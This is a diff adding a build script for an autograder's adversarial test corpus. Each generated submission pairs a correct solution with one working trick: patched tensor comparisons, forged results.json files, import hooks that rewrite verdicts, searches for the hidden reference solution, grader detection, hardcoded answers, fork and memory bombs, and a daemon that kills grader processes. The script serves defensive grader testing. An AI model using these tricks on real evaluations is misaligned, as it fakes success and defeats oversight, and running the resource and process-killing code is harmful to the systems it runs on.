@@ -1,0 +1,1012 @@
+"""Regenerate tests/corpus/adversarial/ (run: .venv/bin/python tests/corpus/adversarial/build_corpus.py).
+
+Each submission is solutions/*.py with the marker lines removed, plus ONE trick; manifest.json says what a sound
+grader gives it. Rerun after changing solutions/ so the copies do not drift.
+"""
+import hashlib, json, os, re, shutil, sys
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[3]
+SOL = ROOT / "solutions"
+OUT = ROOT / "tests" / "corpus" / "adversarial"
+MODULES = ["simple_attention", "trainable_attention", "causal_attention", "multihead_attention"]
+INIT = '"""Adversarial submission (autograder test corpus): a correct submission plus one trick."""\n'
+
+
+def stripped(mod):
+    text = (SOL / f"{mod}.py").read_text()
+    return "".join(l for l in text.splitlines(True) if l.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
+
+
+def replace_function(src, name, new):
+    """Replace the top-level ``def name`` (through the line before the next top-level statement)."""
+    lines = src.splitlines(True)
+    start = next(i for i, l in enumerate(lines) if l.startswith(f"def {name}("))
+    end = start + 1
+    while end < len(lines) and (lines[end].startswith((" ", "\t")) or not lines[end].strip()):
+        end += 1
+    # keep the blank lines before the next definition
+    while end > start + 1 and not lines[end - 1].strip():
+        end -= 1
+    return "".join(lines[:start]) + new.strip("\n") + "\n" + "".join(lines[end:])
+
+
+SUBS = {}
+
+
+def sub(name, expect, steps=(), why="", files=None, symlinks=None, patch=None, raw=None):
+    SUBS[name] = dict(expect=expect, steps=list(steps), why=why, files=files or {}, symlinks=symlinks or {},
+                      patch=patch or {}, raw=raw or {})
+
+
+SA = "simple_attention.attention_scores"
+WRONG = "inputs @ query + 1.0"
+
+# ---------------------------------------------------------------------------------------------- compare patches
+sub("patch_torch_comparisons", "lose", [SA],
+    "attention_scores returns a wrong value after patching torch.allclose/isclose/equal/testing.assert_close and "
+    "Tensor.__eq__/__sub__/sub/abs/__le__/all to always agree: comparisons happen on the trusted side, so no effect",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Wrong on purpose; patches every comparison it can reach so that the grader would accept it."""
+    import torch as _t
+    import torch.testing as _tt
+
+    def yes(*a, **k):
+        return True
+
+    def zeros_like_first(a, *rest, **k):
+        return _t.Tensor.__mul__(a, 0) if isinstance(a, _t.Tensor) else 0
+
+    _t.allclose = yes
+    _t.equal = yes
+    _t.isclose = lambda a, b, *x, **k: _t.ones_like(a, dtype=_t.bool)
+    _t.testing.assert_close = lambda *a, **k: None
+    _tt.assert_close = lambda *a, **k: None
+    for name in ("sub", "__sub__", "__rsub__", "sub_"):
+        try:
+            setattr(_t.Tensor, name, zeros_like_first)
+        except (AttributeError, TypeError):
+            pass
+    for name in ("__eq__", "__le__", "__ge__", "eq", "le", "ge", "isclose"):
+        try:
+            setattr(_t.Tensor, name, lambda self, *a, **k: _t.ones_like(self, dtype=_t.bool))
+        except (AttributeError, TypeError):
+            pass
+    _t.Tensor.all = lambda self, *a, **k: _t.tensor(True)
+    _t.Tensor.abs = lambda self, *a, **k: _t.Tensor.__mul__(self, 0)
+    return inputs @ query + 1.0
+'''}})
+
+sub("tensor_subclass_torch_function", "lose", [SA],
+    "attention_scores returns a wrong value wrapped in a torch.Tensor subclass whose __torch_function__ makes every "
+    "comparison, subtraction and closeness test come out equal",
+    patch={"simple_attention": {"attention_scores": '''
+class _AlwaysEqual(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        kwargs = kwargs or {}
+        name = getattr(func, "__name__", "")
+        if name in ("allclose", "equal"):
+            return True
+        if name in ("isclose", "eq", "__eq__", "le", "__le__", "ge", "__ge__"):
+            return torch.ones(args[0].shape, dtype=torch.bool)
+        if name in ("sub", "__sub__", "__rsub__", "abs"):
+            return torch.zeros(args[0].shape, dtype=torch.float64)
+        return super().__torch_function__(func, types, args, kwargs)
+
+
+def attention_scores(inputs, query):
+    """Wrong on purpose, dressed up as a tensor that compares equal to anything."""
+    return (inputs @ query + 1.0).as_subclass(_AlwaysEqual)
+'''}})
+
+sub("fake_tensor_object", "lose", [SA],
+    "attention_scores returns a non-tensor object with shape/dtype/device attributes whose __eq__, __sub__, "
+    "allclose etc. always report agreement",
+    patch={"simple_attention": {"attention_scores": '''
+class _FakeTensor:
+    def __init__(self, like):
+        self.shape = like.shape
+        self.dtype = like.dtype
+        self.device = like.device
+        self.requires_grad = True
+        self.grad_fn = None
+        self.ndim = like.dim()
+
+    def dim(self):
+        return self.ndim
+
+    def size(self, *a):
+        return self.shape if not a else self.shape[a[0]]
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __sub__(self, other):
+        return torch.zeros(self.shape)
+
+    __rsub__ = __sub__
+
+    def __abs__(self):
+        return torch.zeros(self.shape)
+
+    def allclose(self, *a, **k):
+        return True
+
+    def detach(self):
+        return self
+
+    def double(self):
+        return self
+
+    def __getattr__(self, name):
+        return lambda *a, **k: self
+
+    def __hash__(self):
+        return 0
+
+
+def attention_scores(inputs, query):
+    """Not a tensor at all, but it says yes to every comparison."""
+    return _FakeTensor(inputs @ query)
+'''}})
+
+# ---------------------------------------------------------------------------------------------- exits
+sub("sys_exit_in_step", "lose", [SA], "attention_scores calls sys.exit(0) instead of returning",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Leaves with a clean exit status, hoping the grader counts that as success."""
+    import sys
+    sys.exit(0)
+'''}})
+
+sub("os_exit_in_step", "lose", [SA], "attention_scores calls os._exit(0) instead of returning",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Ends the process with status 0, hoping the grader counts that as success."""
+    import os
+    os._exit(0)
+'''}})
+
+sub("base_exception_and_keyboard_interrupt", "lose", [SA, "simple_attention.normalize_sum"],
+    "attention_scores raises a BaseException subclass (not an Exception), normalize_sum raises KeyboardInterrupt",
+    patch={"simple_attention": {"attention_scores": '''
+class _NotAnException(BaseException):
+    pass
+
+
+def attention_scores(inputs, query):
+    """Raises something an `except Exception` in the grader would not catch."""
+    raise _NotAnException("escape the grader's except Exception")
+''', "normalize_sum": '''
+def normalize_sum(scores):
+    """Pretends the user pressed Ctrl-C."""
+    raise KeyboardInterrupt
+'''}})
+
+# ---------------------------------------------------------------------------------------------- fake output
+FAKE = "ADVERSARIAL-FAKE-OUTPUT"
+sub("fake_results_on_stdout", "lose", [SA],
+    f"attention_scores returns a wrong value and prints fake results ('PASSED 81/81', a results JSON with score 81, "
+    f"marked {FAKE}) to stdout, stderr, sys.__stdout__ and file descriptors 1 and 2",
+    patch={"simple_attention": {"attention_scores": f'''
+def attention_scores(inputs, query):
+    """Wrong on purpose; tells whoever reads stdout/stderr that everything passed."""
+    import json, os, sys
+    fake = json.dumps({{"score": 81.0, "output": "{FAKE} all passed", "tests": [{{"name": "all", "score": 81.0,
+                        "max_score": 81.0, "status": "passed"}}]}})
+    text = "PASSED 81/81 {FAKE}\\n" + fake + "\\n"
+    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
+        try:
+            stream.write(text)
+            stream.flush()
+        except Exception:
+            pass
+    for fd in (1, 2):
+        try:
+            os.write(fd, text.encode())
+        except OSError:
+            pass
+    try:
+        with open("/dev/tty", "w") as tty:
+            tty.write(text)
+    except OSError:
+        pass
+    return inputs @ query + 1.0
+'''}})
+
+# ---------------------------------------------------------------------------------------------- results.json
+FORGED = "ADVERSARIAL-FORGED-RESULTS"
+sub("write_results_json", "lose", [SA],
+    "attention_scores returns a wrong value and writes a forged full-score results.json into the cwd, its parents, "
+    "../results, ../../results, /tmp, /autograder/results and into the grader's --out folder (found from the "
+    "ancestors' command lines), for itself and every submission already graded",
+    patch={"simple_attention": {"attention_scores": f'''
+def attention_scores(inputs, query):
+    """Wrong on purpose; forges results.json wherever a grader might look."""
+    import json, os
+    from pathlib import Path
+    forged = json.dumps({{"score": 999.0, "output": "{FORGED}", "visibility": "visible",
+                          "stdout_visibility": "visible", "tests": []}})
+    targets = [Path.cwd() / "results.json", Path("../results/results.json"), Path("../../results/results.json"),
+               Path("/tmp/results.json"), Path("/autograder/results/results.json")]
+    targets += [p / "results.json" for p in Path.cwd().parents if str(p) != "/"]
+    # the grader's --out folder, from the command lines of this process's ancestors
+    pid = os.getpid()
+    for _ in range(20):
+        try:
+            status = Path(f"/proc/{{pid}}/status").read_text()
+            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
+            argv = Path(f"/proc/{{pid}}/cmdline").read_bytes().split(b"\\0")
+            cwd = Path(os.readlink(f"/proc/{{pid}}/cwd"))
+        except (OSError, StopIteration, ValueError):
+            break
+        if pid <= 1:
+            break
+        for i, arg in enumerate(argv[:-1]):
+            if arg == b"--out":
+                out = cwd / os.fsdecode(argv[i + 1])
+                targets.append(out / Path(__file__).resolve().parent.name / "results.json")
+                try:
+                    targets += [d / "results.json" for d in out.iterdir() if d.is_dir()]
+                except OSError:
+                    pass
+    for target in targets:
+        try:
+            target.parent.mkdir(parents=True, exist_ok=True)
+            target.write_text(forged)
+        except OSError:
+            pass
+    return inputs @ query + 1.0
+'''}})
+
+# ---------------------------------------------------------------------------------------------- startup hooks
+def flag_step(flag):
+    return f'''
+def attention_scores(inputs, query):
+    """Correct only if the submission's start-up hook ran in this process (it sets a flag)."""
+    import builtins
+    if getattr(builtins, "{flag}", False):
+        return inputs @ query
+    return inputs @ query + 1.0
+'''
+
+
+def hook_body(flag, marker):
+    return f'''
+import builtins
+builtins.{flag} = True
+try:
+    open("{marker}", "w").write("ran\\n")
+except OSError:
+    pass
+try:  # in the grader's own process, make every verdict a pass
+    import autograder.grading.judge as _judge
+    from autograder.grading.verdict import PASSED as _PASSED, Verdict as _Verdict
+    for _name in list(_judge.JUDGES):
+        _judge.JUDGES[_name] = lambda *a, **k: _Verdict(_PASSED, [])
+    _judge.judge = lambda *a, **k: _Verdict(_PASSED, [])
+except Exception:
+    pass
+try:
+    import torch
+    torch.allclose = lambda *a, **k: True
+except Exception:
+    pass
+'''
+
+
+for kind, fname in (("conftest", "conftest.py"), ("sitecustomize", "sitecustomize.py"),
+                    ("usercustomize", "usercustomize.py"), ("pth", "x.pth")):
+    flag = f"_adversarial_{kind}_ran"
+    marker = f"/tmp/adversarial-{kind}-marker"
+    body = hook_body(flag, marker)
+    if kind == "conftest":
+        body += '''
+
+def pytest_runtest_makereport(item, call):
+    call.excinfo = None
+
+
+def pytest_collection_modifyitems(session, config, items):
+    items[:] = []
+'''
+    if kind == "pth":
+        body = ("import builtins; builtins.%s = True; exec(%r)\n" % (flag, body))
+    name = f"{kind}_in_submission"
+    sub(name, "lose", [SA],
+        f"a {fname} in the submission sets a flag (attention_scores is correct only when the flag is set), writes "
+        f"{marker}, and would turn every verdict into a pass if the grader's process loaded it: it must not run anywhere",
+        patch={"simple_attention": {"attention_scores": flag_step(flag)}},
+        files={fname: body})
+
+# ---------------------------------------------------------------------------------------------- reading the reference
+REF_SEARCH = '''
+_FOUND = []
+
+
+def _reference_attention_scores():
+    """Look for any other copy of attention_scores on disk: the reference first, then other submissions."""
+    import os, time
+    from pathlib import Path
+    if _FOUND:
+        return _FOUND[0]
+    me = Path(__file__).resolve().parent
+    candidates = [Path("../../solutions/simple_attention.py"), Path("../solutions/simple_attention.py")]
+    candidates += [p / "solutions" / "simple_attention.py" for p in me.parents]
+    candidates += [p / "solutions" / "simple_attention.py" for p in Path.cwd().parents]
+    candidates += [Path("/work/main/solutions/simple_attention.py"), Path("/autograder/source/solutions/simple_attention.py")]
+    deadline = time.monotonic() + 4
+    for top in ("/work", "/autograder", "/home", "/srv", "/opt", "/tmp", "/root", "/"):
+        for dirpath, dirnames, filenames in os.walk(top):
+            if time.monotonic() > deadline:
+                break
+            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin",
+                                                            "sbin", "var", "etc", "boot", "run", "snap", ".git",
+                                                            "site-packages", "node_modules", ".venv")]
+            if "simple_attention.py" in filenames:
+                candidates.append(Path(dirpath) / "simple_attention.py")
+            for name in ("public_cases.json", "test_simple_attention.py"):
+                if name in filenames:
+                    candidates.append(Path(dirpath) / name)
+    candidates.sort(key=lambda p: "solutions" not in str(p))
+    for path in candidates:
+        try:
+            if path.resolve().parent == me or path.suffix != ".py" or path.name != "simple_attention.py":
+                continue
+            namespace = {}
+            exec(compile(path.read_text(), str(path), "exec"), namespace)
+            fn = namespace["attention_scores"]
+            x = torch.tensor([[1.0, 2.0], [3.0, 4.0]])
+            if torch.equal(fn(x, x[0]), torch.tensor([5.0, 11.0])):
+                _FOUND.append(fn)
+                return fn
+        except BaseException:
+            continue
+    return None
+
+
+def attention_scores(inputs, query):
+    """Wrong on its own; right only with someone else's code found on disk."""
+    fn = _reference_attention_scores()
+    if fn is not None:
+        return fn(inputs, query)
+    return inputs @ query + 1.0
+'''
+sub("read_reference_from_disk", "lose", [SA],
+    "attention_scores is wrong on its own but looks for the reference (../../solutions, the ancestors of its folder "
+    "and of the cwd, /work/main/solutions, an os.walk of the filesystem for any other simple_attention.py, "
+    "public_cases.json or the hidden suites) and, if it finds one, returns its answer",
+    patch={"simple_attention": {"attention_scores": REF_SEARCH}})
+
+sub("import_reference_by_name", "lose", [SA],
+    "attention_scores is wrong on its own but imports the reference by name (solutions.simple_attention, "
+    "_reference_solutions, autograder.suites/documents, after adding every ancestor folder to sys.path) and returns "
+    "its answer when that works",
+    patch={"simple_attention": {"attention_scores": '''
+def _imported_reference():
+    import importlib, sys
+    from pathlib import Path
+    names = ["solutions.simple_attention", "_reference_solutions.simple_attention", "autograder.suites",
+             "autograder.documents", "autograder.grading.reference"]
+    for mod in list(sys.modules.values()):
+        fn = getattr(mod, "attention_scores", None)
+        if callable(fn) and getattr(mod, "__name__", "").split(".")[0] not in ("submission",):
+            return fn
+    extra = [str(p) for p in Path(__file__).resolve().parents] + [str(p) for p in Path.cwd().parents] + ["/work/main"]
+    for path in extra:
+        if path not in sys.path:
+            sys.path.append(path)
+    for name in names:
+        try:
+            mod = importlib.import_module(name)
+        except BaseException:
+            continue
+        fn = getattr(mod, "attention_scores", None)
+        if callable(fn):
+            return fn
+    return None
+
+
+def attention_scores(inputs, query):
+    """Wrong on its own; right only with the reference imported by name."""
+    fn = _imported_reference()
+    if fn is not None:
+        return fn(inputs, query)
+    return inputs @ query + 1.0
+'''}})
+
+sub("walk_frames_and_gc", "lose", [SA],
+    "attention_scores is wrong on its own but searches its callers' frames (sys._getframe: locals/globals named "
+    "expected/reference/answer, stand-ins named attention_scores) and gc.get_objects() for a tensor of the right "
+    "shape that is not one of its inputs, and returns it",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Wrong on its own; returns whatever expected-looking tensor it can find in memory."""
+    import gc, sys
+    shape = (inputs.shape[0],)
+    mine = {id(inputs), id(query)}
+
+    def good(t):
+        return isinstance(t, torch.Tensor) and tuple(t.shape) == shape and id(t) not in mine and t.dtype == inputs.dtype
+
+    def search(value, depth=0):
+        if depth > 4:
+            return None
+        if good(value):
+            return value
+        if isinstance(value, dict):
+            for k, v in list(value.items()):
+                if k in ("expected", "reference", "answer", "want", "output") or depth < 3:
+                    found = search(v, depth + 1)
+                    if found is not None:
+                        return found
+        if isinstance(value, (list, tuple)):
+            for v in value[:50]:
+                found = search(v, depth + 1)
+                if found is not None:
+                    return found
+        return None
+
+    frame = sys._getframe(1)
+    while frame is not None:
+        scopes = (frame.f_locals, frame.f_globals)
+        for scope in scopes:
+            for key in ("expected", "reference", "answer", "want", "standins", "objects", "ws"):
+                value = scope.get(key)
+                if value is None:
+                    continue
+                fn = getattr(value, "standins", value)
+                if isinstance(fn, dict) and callable(fn.get("simple_attention.attention_scores")):
+                    return fn["simple_attention.attention_scores"](inputs, query)
+                found = search(value)
+                if found is not None:
+                    return found.clone().requires_grad_(inputs.requires_grad)
+        frame = frame.f_back
+    for obj in gc.get_objects():
+        if isinstance(obj, dict) and "expected" in obj:
+            found = search(obj["expected"])
+            if found is not None:
+                return found.clone()
+    for obj in gc.get_objects():
+        if callable(obj) and getattr(obj, "__name__", "") == "attention_scores" and getattr(obj, "__module__", "") != __name__:
+            try:
+                return obj(inputs, query)
+            except Exception:
+                pass
+    return inputs @ query + 1.0
+'''}})
+
+sub("leak_standin_sources", "lose", [SA],
+    "attention_scores raises an exception whose message carries the source of the correct stand-ins the grader "
+    "ships to the worker (found through the caller frames and gc): a student would read the reference in the "
+    "feedback; the feedback must contain no solution line",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Raises with whatever reference code it can find in this process."""
+    import gc, inspect, sys
+    sources = {}
+    frame = sys._getframe(1)
+    while frame is not None:
+        spawn = frame.f_locals.get("spawn")
+        if isinstance(spawn, dict) and isinstance(spawn.get("standins"), dict):
+            sources.update(spawn["standins"])
+        frame = frame.f_back
+    if not sources:
+        for obj in gc.get_objects():
+            if isinstance(obj, dict) and isinstance(obj.get("standins"), dict):
+                sources.update({k: v for k, v in obj["standins"].items() if isinstance(v, str)})
+    if not sources:
+        for obj in gc.get_objects():
+            code = getattr(obj, "__code__", None)
+            if code is not None and code.co_filename.startswith("<stand-in"):
+                try:
+                    sources[code.co_filename] = inspect.getsource(obj)
+                except Exception:
+                    sources[code.co_filename] = repr(code.co_consts)
+    keys = sorted(sources, key=lambda k: ("CausalAttention" not in k, "MultiHead" not in k, k))
+    body = []
+    for key in keys:
+        lines = [l.strip() for l in sources[key].splitlines()]
+        body += [l for l in lines if l and not l.startswith(("def ", "class ", '"""', "Shapes", "Hint", "__init__"))]
+    raise RuntimeError(" | ".join(body)[:990] or "no stand-in found")
+'''}})
+
+# ---------------------------------------------------------------------------------------------- state
+sub("mutate_input_hide_with_patched_equal", "lose", ["simple_attention.normalize_sum"],
+    "normalize_sum returns the right values but zeroes its input in place (values count), and hides that by "
+    "patching torch.equal/Tensor.equal to always return True (the worker's own in-place check uses torch.equal)",
+    patch={"simple_attention": {"normalize_sum": '''
+def normalize_sum(scores):
+    """Right values; wipes its input in place and tries to hide it."""
+    out = scores / scores.sum()
+    if not scores.requires_grad:
+        with torch.no_grad():
+            scores.zero_()
+    torch.equal = lambda *a, **k: True
+    try:
+        torch.Tensor.equal = lambda *a, **k: True
+    except (AttributeError, TypeError):
+        pass
+    return out
+'''}})
+
+sub("reseed_and_patch_rng", "full", [],
+    "attention_scores is correct, but also re-seeds the global RNG (torch.manual_seed(123)), draws from it, and "
+    "replaces torch.manual_seed, torch.rand, torch.randn and nn.Dropout.forward: no other step may be affected",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Correct, but leaves the random number generators and a few torch functions in a bad state."""
+    import torch.nn as nn
+    torch.manual_seed(123)
+    torch.rand(1000)
+    torch.manual_seed = lambda *a, **k: None
+    torch.rand = lambda *size, **k: torch.zeros(*size)
+    torch.randn = lambda *size, **k: torch.zeros(*size)
+    nn.Dropout.forward = lambda self, x: x
+    nn.Linear.reset_parameters = lambda self: None
+    torch.default_generator.manual_seed(42)
+    return inputs @ query
+'''}})
+
+sub("detect_grader", "lose", [SA],
+    "attention_scores is right only when it detects the hidden autograder (environment variables, sys.argv, "
+    "ancestors' command lines mentioning the grade CLI/--out/pytest, 'pytest' in sys.modules, a cwd naming the "
+    "grader, /proc/<pid>/cmdline) and wrong otherwise: the grader's own process must be invisible, so it loses the "
+    "step (the worker can always tell it is a worker, e.g. from sys.argv or sys.modules: those are not counted)",
+    patch={"simple_attention": {"attention_scores": '''
+def _detected():
+    import os, sys
+    from pathlib import Path
+    if any(k.startswith(("PYTEST", "GRADE", "GRADESCOPE", "AUTOGRADER")) for k in os.environ):
+        return True
+    if "pytest" in sys.modules or "_pytest" in sys.modules or "autograder" in sys.modules:
+        return True
+    # sys.argv is the zygote's (it names the worker package): only the trusted CLI's own arguments count
+    if any(a in ("autograde", "--out", "pytest") for a in sys.argv):
+        return True
+    if any(h in os.getcwd() for h in ("grade-scratch", "autograder", "results")):
+        return True
+    pid = os.getpid()
+    for _ in range(20):
+        try:
+            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\\0", b" ").decode(errors="replace")
+            if pid != os.getpid() and any(h in cmd for h in (" autograde ", "autograder.cli", "pytest", " --out ")):
+                return True
+            status = Path(f"/proc/{pid}/status").read_text()
+            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
+        except (OSError, StopIteration, ValueError):
+            break
+        if pid <= 0:
+            break
+    return False
+
+
+def attention_scores(inputs, query):
+    """Behaves only when it believes the real autograder is watching."""
+    if _detected():
+        return inputs @ query
+    return inputs @ query + 1.0
+'''}})
+
+
+def hash_table():
+    sys.path.insert(0, str(ROOT))
+    import torch
+    from autograder import documents
+    table = {}
+    for name, (factory, _s, _w) in documents.INPUTS.items():
+        x = factory()
+        key = hashlib.sha256(repr([round(v, 4) for v in x.flatten().tolist()]).encode()).hexdigest()
+        table[key] = [[round(v, 7) for v in row] for row in (x @ x.T).tolist()]
+    return table
+
+
+sub("hardcode_by_input_hash", "lose", ["simple_attention.all_attention_scores"],
+    "all_attention_scores looks the documents' inputs up by hash and returns memorized outputs (as a fresh tensor, "
+    "no graph); unknown (randomized) inputs get zeros: values pass, gradients and randomized must fail",
+    patch={"simple_attention": {"all_attention_scores": '''
+_MEMORIZED = %s
+
+
+def all_attention_scores(inputs):
+    """Memorized answers for the course documents' inputs."""
+    import hashlib
+    key = hashlib.sha256(repr([round(v, 4) for v in inputs.detach().flatten().tolist()]).encode()).hexdigest()
+    if key in _MEMORIZED:
+        return torch.tensor(_MEMORIZED[key], dtype=inputs.dtype) + 0 * inputs.sum()
+    return torch.zeros(inputs.shape[0], inputs.shape[0], dtype=inputs.dtype)
+''' % json.dumps(hash_table(), indent=None)}})
+
+# ---------------------------------------------------------------------------------------------- resources (do not run without isolation)
+sub("infinite_loop", "lose", [SA], "attention_scores never returns (while True: pass)",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Spins forever."""
+    while True:
+        pass
+'''}})
+
+sub("sleep_forever", "lose", [SA], "attention_scores sleeps for 10**6 seconds",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Sleeps (almost) forever."""
+    import time
+    time.sleep(10**6)
+'''}})
+
+sub("memory_bomb", "lose", [SA],
+    "attention_scores allocates and touches memory in 256 MB chunks, bounded at 16 GB in all, then returns the "
+    "right value: the memory limit must stop it",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Eats memory (bounded at 16 GB) before answering correctly."""
+    hog = []
+    chunk = 256 * 1024 * 1024
+    for _ in range(16 * 4):  # 64 x 256 MB = 16 GB at most
+        hog.append(b"\\x01" * chunk)  # bytes(...) of a non-zero byte: every page is written
+    return inputs @ query
+'''}})
+
+sub("fork_bomb", "lose", [SA],
+    "attention_scores forks up to 400 children (no recursion), each writes /tmp/adversarial-fork_bomb-marker after "
+    "5 s and exits after 120 s; then returns the right value: the process limit must stop it and no child may "
+    "outlive the step",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Forks up to 400 sleeping children (bounded, no recursion), then answers correctly."""
+    import os, time
+    forked = 0
+    for _ in range(400):
+        try:
+            pid = os.fork()
+        except OSError:
+            break
+        if pid == 0:
+            try:
+                time.sleep(5)
+                with open("/tmp/adversarial-fork_bomb-marker", "a") as fh:
+                    fh.write(f"{os.getpid()}\\n")
+                time.sleep(115)
+            finally:
+                os._exit(0)
+        forked += 1
+    if forked < 400:
+        raise RuntimeError(f"only {forked} forks")
+    return inputs @ query
+'''}})
+
+sub("output_flood", "lose", [SA], "attention_scores prints 200 MB, then returns the right value",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Prints 200 MB before answering correctly."""
+    import sys
+    line = "x" * 1023 + "\\n"
+    for _ in range(200 * 1024):
+        sys.stdout.write(line)
+    sys.stdout.flush()
+    return inputs @ query
+'''}})
+
+sub("write_1gb_file", "lose", [SA], "attention_scores writes a 1 GB file into its cwd, then returns the right value",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Writes a 1 GB file into the cwd before answering correctly."""
+    block = b"\\x01" * (1 << 20)
+    with open("adversarial-big-file.bin", "wb") as fh:
+        for _ in range(1024):
+            fh.write(block)
+    return inputs @ query
+'''}})
+
+sub("segfault", "lose", [SA], "attention_scores reads address 0 through ctypes (segmentation fault)",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Crashes the interpreter."""
+    import ctypes
+    ctypes.string_at(0)
+'''}})
+
+sub("background_thread", "full", [],
+    "attention_scores is correct but starts a non-daemon thread that writes /tmp/adversarial-background_thread-marker "
+    "2 s later (after the step is over): the worker must be gone by then",
+    patch={"simple_attention": {"attention_scores": '''
+_STARTED = []
+
+
+def attention_scores(inputs, query):
+    """Correct, and leaves a thread behind."""
+    import threading, time
+
+    def later():
+        time.sleep(2)
+        with open("/tmp/adversarial-background_thread-marker", "w") as fh:
+            fh.write("the worker outlived its step\\n")
+
+    if not _STARTED:
+        _STARTED.append(threading.Thread(target=later, daemon=False))
+        _STARTED[0].start()
+    return inputs @ query
+'''}})
+
+sub("daemon_kills_grader", "full", [],
+    "attention_scores is correct but double-forks a setsid daemon that sleeps 3 s, writes "
+    "/tmp/adversarial-daemon-<random>, then SIGKILLs its ancestors (the zygote and the grader) and every process "
+    "whose command line mentions autograder; the daemon must die with the step and grading must complete",
+    patch={"simple_attention": {"attention_scores": '''
+_SPAWNED = []
+
+
+def attention_scores(inputs, query):
+    """Correct, and leaves a daemon behind that tries to kill the grader."""
+    import os, signal, time
+    from pathlib import Path
+    if not _SPAWNED:
+        _SPAWNED.append(True)
+        ancestors = []
+        pid = os.getpid()
+        for _ in range(20):
+            try:
+                status = Path(f"/proc/{pid}/status").read_text()
+                pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
+            except (OSError, StopIteration, ValueError):
+                break
+            if pid <= 1:
+                break
+            ancestors.append(pid)
+        first = os.fork()
+        if first == 0:
+            try:
+                os.setsid()
+                if os.fork() == 0:
+                    try:
+                        time.sleep(3)
+                        with open(f"/tmp/adversarial-daemon-{os.urandom(4).hex()}", "w") as fh:
+                            fh.write(f"daemon alive, ancestors {ancestors}\\n")
+                        victims = list(ancestors)
+                        for entry in Path("/proc").iterdir():
+                            # Only the grader's processes: never kill(-1) and never unrelated processes.
+                            if entry.name.isdigit() and int(entry.name) != os.getpid():
+                                try:
+                                    cmd = (entry / "cmdline").read_bytes()
+                                except OSError:
+                                    continue
+                                if b"autograder" in cmd or b"attention_worker" in cmd:
+                                    victims.append(int(entry.name))
+                        for victim in victims:
+                            if victim > 1:
+                                try:
+                                    os.kill(victim, signal.SIGKILL)
+                                except OSError:
+                                    pass
+                    finally:
+                        os._exit(0)
+            finally:
+                os._exit(0)
+        try:
+            os.waitpid(first, 0)
+        except ChildProcessError:
+            pass
+    return inputs @ query
+'''}})
+
+sub("kill_parent", "lose", [SA],
+    "attention_scores SIGKILLs its parent (os.getppid(): the zygote) and its own process group (os.killpg(0)), "
+    "then would return a wrong value: only this step may be lost, the rest must still be graded",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Kills the process that forked it, then its own group."""
+    import os, signal
+    parent = os.getppid()
+    if parent > 1:
+        try:
+            os.kill(parent, signal.SIGKILL)
+        except OSError:
+            pass
+    try:
+        os.killpg(0, signal.SIGKILL)
+    except OSError:
+        pass
+    return inputs @ query + 1.0
+'''}})
+
+# ---------------------------------------------------------------------------------------------- hostile exceptions
+sub("hostile_exceptions", "lose", [SA, "simple_attention.normalize_sum", "simple_attention.softmax_naive"],
+    "attention_scores raises an exception whose __str__/__repr__ raise and whose class __name__ raises (metaclass "
+    "property); normalize_sum raises one whose __str__ loops forever; softmax_naive raises one whose __str__ returns "
+    "a str subclass that raises on slicing",
+    patch={"simple_attention": {"attention_scores": '''
+class _Meta(type):
+    @property
+    def __name__(cls):
+        raise RuntimeError("no name for you")
+
+
+class _Hostile(Exception, metaclass=_Meta):
+    def __str__(self):
+        raise RuntimeError("no str for you")
+
+    def __repr__(self):
+        raise RuntimeError("no repr for you")
+
+
+def attention_scores(inputs, query):
+    """Raises an exception that cannot be described."""
+    raise _Hostile()
+''', "normalize_sum": '''
+class _Looping(Exception):
+    def __str__(self):
+        while True:
+            pass
+
+    __repr__ = __str__
+
+
+def normalize_sum(scores):
+    """Raises an exception whose message never ends."""
+    raise _Looping()
+''', "softmax_naive": '''
+class _BadStr(str):
+    def __getitem__(self, index):
+        raise RuntimeError("no slicing for you")
+
+    def __len__(self):
+        raise RuntimeError("no len for you")
+
+
+class _SlyError(Exception):
+    def __str__(self):
+        return _BadStr("sly")
+
+
+def softmax_naive(x):
+    """Raises an exception whose message is a hostile str subclass."""
+    raise _SlyError()
+'''}})
+
+# ---------------------------------------------------------------------------------------------- files
+SIMPLE_STEPS = ["simple_attention." + s for s in ("attention_scores", "normalize_sum", "softmax_naive", "context_vector",
+                                                  "all_attention_scores", "all_attention_weights", "all_context_vectors")]
+TRAINABLE_STEPS = ["trainable_attention." + s for s in ("init_qkv", "project", "attention_scores_for_query",
+                   "scaled_attention_weights", "context_vector", "SelfAttention_v1", "SelfAttention_v2",
+                   "transfer_weights", "dot_product_variance")]
+sub("symlink_to_solutions", "lose", SIMPLE_STEPS,
+    "simple_attention.py is a symlink to the reference (../../../../solutions/simple_attention.py): the grader "
+    "must not follow a link out of the submission",
+    symlinks={"simple_attention.py": "../../../../solutions/simple_attention.py"})
